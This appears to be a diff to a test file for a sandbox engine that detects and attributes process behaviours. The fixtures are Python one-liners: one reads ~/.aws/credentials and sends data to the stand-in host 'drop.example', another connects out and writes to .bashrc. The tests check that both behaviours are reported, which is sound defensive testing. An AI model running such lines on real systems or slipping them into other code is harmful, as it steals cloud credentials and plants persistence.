@@ -121,12 +121,27 @@ describe("an engine that remaps the ids of users", () => {
     const program =
       "import os, socket; socket.socket().connect_ex(('203.0.113.7', 80)); open('/home/sandbox/.bashrc', 'w')";
     const run = await runTrial(sandbox, { command: ["python3", "-c", program] });
-    // Also without a tun device for remapped users, and so without a recorder.
     const told = run.behaviours.map(({ capability, process }) => `${capability} by ${process}`);
     expect(told.toSorted()).toEqual([
       expect.stringMatching(/^network\.send by python3 -c/),
       expect.stringMatching(/^write\.startup by python3 -c/),
     ]);
     expect(run.witnesses.join("\n")).toMatch(/^processes: a tracer/m);
+  });
+
+  it("has recorder and tracer in one run, which agree about who read and sent", async () => {
+    const program =
+      "import os, socket; open(os.path.expanduser('~/.aws/credentials')).read(); socket.create_connection(('drop.example', 80), 5).send(b'x')";
+    const run = await runTrial(sandbox, { command: ["python3", "-c", program] });
+    const witnesses = run.witnesses.join("\n");
+    expect(witnesses).toMatch(/^network: a recorder/m);
+    expect(witnesses).toMatch(/^processes: a tracer/m);
+    expect(run.behaviours.map(({ capability, target }) => `${capability} ${target}`)).toEqual([
+      "read.credential ~/.aws/credentials",
+      "network.send drop.example:80 (TCP)",
+    ]);
+    const [reader, sender] = run.behaviours.map(({ process }) => process);
+    expect(reader).toMatch(/^python3 -c .*, first reading, then sending$/);
+    expect(sender).toBe(reader);
   });
 });
